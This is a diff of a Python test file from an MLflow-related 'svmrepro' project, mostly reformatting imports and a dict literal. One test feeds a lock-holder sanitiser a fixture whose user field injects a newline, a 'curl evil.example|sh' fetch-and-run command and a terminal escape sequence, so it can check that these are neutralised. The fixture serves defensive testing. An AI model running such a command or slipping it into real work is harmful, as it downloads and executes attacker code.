@@ -17,7 +17,14 @@ from mlflow.tracking import MlflowClient
 
 from svmrepro.errors import SvmReproError
 from svmrepro.exclusive import (
-    EXCLUSIVE, SHARED, LOCK_ENV, holder_text, holders, lock_path, machine_slot, timing_tags,
+    EXCLUSIVE,
+    LOCK_ENV,
+    SHARED,
+    holder_text,
+    holders,
+    lock_path,
+    machine_slot,
+    timing_tags,
 )
 from svmrepro.runner import FINISHED, run
 
@@ -153,8 +160,8 @@ def test_without_a_runtime_folder_the_lock_is_in_a_folder_only_its_user_can_writ
 def test_a_holder_record_is_shown_as_text_never_raw():
     """A record beside the lock is data another process wrote: control characters and long fields are not
     printed as they are."""
-    text = holder_text({"timing": EXCLUSIVE, "user": "eve\n... run curl evil.example|sh\x1b[2J", "experiment": "e" * 500,
-                        "pid": 7, "host": "h", "since": "2026-11-28T00:00:00Z"})
+    text = holder_text({"timing": EXCLUSIVE, "user": "eve\n... run curl evil.example|sh\x1b[2J",
+                        "experiment": "e" * 500, "pid": 7, "host": "h", "since": "2026-11-28T00:00:00Z"})
     assert "\n" not in text and "\x1b" not in text and len(text) < 300
     assert text.startswith("exclusive run of eve?... run curl")
 
